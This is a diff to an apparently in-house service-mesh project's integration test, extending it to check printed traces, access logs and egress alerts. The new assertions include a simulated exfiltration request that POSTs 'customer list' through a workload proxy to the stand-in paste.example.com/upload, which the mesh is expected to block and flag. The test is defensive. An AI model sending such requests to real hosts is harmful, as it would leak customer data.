@@ -3,9 +3,9 @@ import { readFile } from 'node:fs/promises';
 import { connect } from 'node:net';
 import { join } from 'node:path';
 import t from 'tap';
-import { request } from 'undici';
+import { ProxyAgent, request } from 'undici';
 import { CHILD_NODE_ARGS, POSTERN_BIN } from '../../cli/processes.ts';
-import { mtlsAgent, tempDir } from '../helpers.ts';
+import { eventually, mtlsAgent, tempDir } from '../helpers.ts';
 
 const portOpen = (port: number) =>
   new Promise<boolean>((resolve) => {
@@ -18,13 +18,17 @@ const portOpen = (port: number) =>
   });
 
 t.test(
-  'postern up starts a working mesh of separate processes and Ctrl-C stops all of it',
+  'postern up starts a working mesh of separate processes, shows its traces, access logs and alerts, and Ctrl-C stops all of it',
   async (t) => {
     const stateDir = join(await tempDir(t), 'state');
     const up = spawn(
       process.execPath,
-      [...CHILD_NODE_ARGS, POSTERN_BIN, 'up', '--state', stateDir],
-      { stdio: ['ignore', 'pipe', 'pipe'] },
+      [...CHILD_NODE_ARGS, POSTERN_BIN, 'up', '--state', stateDir, '--traces', 'print'],
+      // No learning period: the egress below is news at once.
+      {
+        stdio: ['ignore', 'pipe', 'pipe'],
+        env: { ...process.env, POSTERN_DETECTION_LEARNING: '0' },
+      },
     );
     t.teardown(() => up.kill('SIGKILL'));
     const exited = new Promise<number | null>((resolve) =>
@@ -79,6 +83,34 @@ t.test(
     t.match(await viaFrontend.body.json(), {
       orders: { error: { policy: 'shop/orders-api', route: 'admin', rule: 'deny[0]' } },
     });
+
+    // The allowed call's trace: three hops, printed as one tree.
+    await eventually(() => /frontend\s+CLIENT GET → orders/.test(output), 15_000);
+    t.match(
+      output,
+      /trace [0-9a-f]{32}\n {2}frontend\s+SERVER GET site\s+200 .*from spiffe:\/\/cluster\.local\/ns\/default\/sa\/tester\n {4}frontend\s+CLIENT GET → orders\s+200 .*\n {6}orders\s+SERVER GET list-orders\s+200 .*from spiffe:\/\/cluster\.local\/ns\/shop\/sa\/frontend/,
+    );
+
+    const accessLog = await readFile(join(stateDir, 'logs', 'orders-access.log'), 'utf8');
+    t.match(JSON.parse(accessLog.split('\n')[0]!), {
+      workload: 'orders',
+      direction: 'inbound',
+      route: 'list-orders',
+      status: 200,
+      principal: 'spiffe://cluster.local/ns/shop/sa/frontend',
+    });
+
+    // The printed egress attempt: refused, and printed as an alert.
+    const outbound = Number(/frontend\s+app .* outbound 127\.0\.0\.1:(\d+)/.exec(output)![1]);
+    const egress = await request('http://paste.example.com/upload', {
+      dispatcher: new ProxyAgent(`http://127.0.0.1:${outbound}`),
+      method: 'POST',
+      body: 'customer list',
+    });
+    await egress.body.dump();
+    t.equal(egress.statusCode, 502);
+    await eventually(() => output.includes('ALERT medium egress'), 30_000);
+    t.match(output, /ALERT medium egress: shop\/frontend to paste\.example\.com:80 /);
 
     const ports = [port('frontend'), port('orders'), appPort('frontend'), appPort('orders')];
     up.kill('SIGINT');
